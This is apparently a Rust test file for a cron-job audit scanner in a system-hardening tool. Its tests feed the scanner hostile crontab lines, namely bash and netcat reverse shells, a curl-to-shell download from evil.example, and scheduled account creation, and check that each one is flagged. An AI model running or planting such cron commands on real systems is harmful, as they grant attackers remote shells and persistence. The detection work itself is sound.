use pinnacle_cypat::tasks::scheduled_tasks_audit::{
    review_evidence, scan_text, searched_evidence, suspicion, CRON_LOCATIONS,
};

#[test]
fn a_reverse_shell_is_found() {
    let text = "* * * * * root bash -i >& /dev/tcp/10.0.0.5/4444 0>&1\n";
    let findings = scan_text("/etc/crontab", text);
    assert_eq!(findings.len(), 1);
    assert!(findings[0].line.contains("/dev/tcp/"));
}

#[test]
fn a_download_and_run_job_is_found() {
    let text = "0 3 * * * root curl -s http://evil.example/x.sh | sh\n";
    assert_eq!(scan_text("/etc/cron.d/backup", text).len(), 1);
}

#[test]
fn ordinary_maintenance_jobs_are_not_flagged() {
    let text = "\
17 *    * * *   root    cd / && run-parts --report /etc/cron.hourly
25 6    * * *   root    test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily
30 3    * * *   root    /usr/lib/php/sessionclean
";
    assert!(scan_text("/etc/crontab", text).is_empty());
}

#[test]
fn commented_lines_are_not_jobs() {
    let text = "# * * * * * root curl http://example.com | sh\n# m h dom mon dow user command\n";
    assert!(scan_text("/etc/crontab", text).is_empty());
}

#[test]
fn the_reason_is_recorded_with_the_finding() {
    let findings = scan_text("/etc/crontab", "* * * * * root nc -e /bin/sh 10.0.0.5 4444\n");
    assert_eq!(findings.len(), 1);
    assert!(!findings[0].why.is_empty());
    assert_eq!(findings[0].source, "/etc/crontab");
}

#[test]
fn every_cron_location_is_searched() {
    for expected in ["/etc/crontab", "/etc/cron.d", "/etc/cron.daily", "/var/spool/cron/crontabs"] {
        assert!(CRON_LOCATIONS.contains(&expected), "{expected} is not searched");
    }
}

#[test]
fn the_first_matching_fragment_gives_the_reason() {
    assert_eq!(suspicion("WGET http://x | sh"), Some("fetches something from the network"));
    assert_eq!(suspicion("  # wget http://x"), None);
    assert_eq!(suspicion("useradd -m eve"), Some("creates an account on a schedule"));
    assert_eq!(suspicion("/usr/bin/true"), None);
}

#[test]
fn a_finding_keeps_the_line_trimmed() {
    let f = scan_text("/etc/cron.d/x", "   0 0 * * * root /tmp/run.sh   \n");
    assert_eq!(f[0].line, "0 0 * * * root /tmp/run.sh");
    assert_eq!(f[0].why, "runs something out of a world-writable directory");
}

#[test]
fn the_finding_says_where_the_jobs_worth_reviewing_are() {
    let mut findings = scan_text("/etc/crontab", "* * * * * root curl http://x.example/a | sh\n");
    findings.extend(scan_text("/var/spool/cron/crontabs/bob", "@reboot nc -e /bin/sh 10.0.0.1 9\n"));
    assert_eq!(findings.len(), 2);
    assert_eq!(
        review_evidence(&findings),
        "2 jobs worth reviewing: /etc/crontab, /var/spool/cron/crontabs/bob"
    );
}

#[test]
fn a_clean_search_says_where_it_looked() {
    assert_eq!(searched_evidence(), format!("searched {}", CRON_LOCATIONS.join(", ")));
}
